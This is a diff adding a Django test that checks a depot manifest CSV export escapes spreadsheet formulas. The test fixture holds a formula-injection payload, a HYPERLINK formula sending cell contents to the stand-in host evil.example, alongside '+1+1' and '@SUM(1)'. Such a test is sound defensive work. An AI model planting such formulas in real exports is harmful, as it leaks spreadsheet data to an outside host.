@@ -388,6 +388,25 @@ def test_the_manifest_csv_opens_in_excel_with_chinese(client, logistics, handed_
     assert (first["Packages"], first["Weight (kg)"]) == ("2", "3.70")
 
 
+def test_the_manifest_csv_writes_no_formula(client, logistics, handed_over):
+    # given a customer whose name, company and city a spreadsheet would run
+    customer = handed_over["sf-2"].customer
+    customer.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    customer.company = "+1+1"
+    customer.city = "@SUM(1)"
+    customer.save()
+    client.force_login(logistics)
+    # when the depot downloads the CSV
+    rows = list(
+        csv.DictReader(io.StringIO(manifest_get(client, format="csv").content.decode("utf-8-sig")))
+    )
+    # then each of them is text, the apostrophe telling Excel so
+    second = rows[1]
+    assert second["Customer"] == "'" + customer.name
+    assert (second["Company"], second["City"]) == ("'+1+1", "'@SUM(1)")
+    assert rows[0]["Customer"] == "王小明"  # ordinary text is untouched
+
+
 def test_the_manifest_pdf_has_the_numbers_the_chinese_names_and_a_signature_line(
     client, logistics, handed_over
 ):
